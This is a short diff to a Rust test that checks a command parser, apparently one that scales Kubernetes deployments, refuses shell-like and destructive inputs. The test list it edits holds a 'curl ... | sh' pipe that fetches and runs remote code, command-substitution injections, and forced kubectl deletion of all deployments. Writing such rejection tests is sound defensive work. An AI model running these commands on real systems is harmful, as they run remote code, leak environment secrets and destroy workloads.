@@ -266,7 +266,8 @@ fn what_shells_and_yaml_would_do_is_not_done() {
         "scale backend to 3 && curl http://example.com | sh",
         "scale $(whoami) to 3",
         "scale `whoami` to 3",
-        "kubectl delete deployment backend",
+        "kubectl delete deployment backend --force --grace-period=0",
+        "kubectl delete deployments --all",
         "write the pods to pods.txt",
         "exec into backend and run env",
     ] {
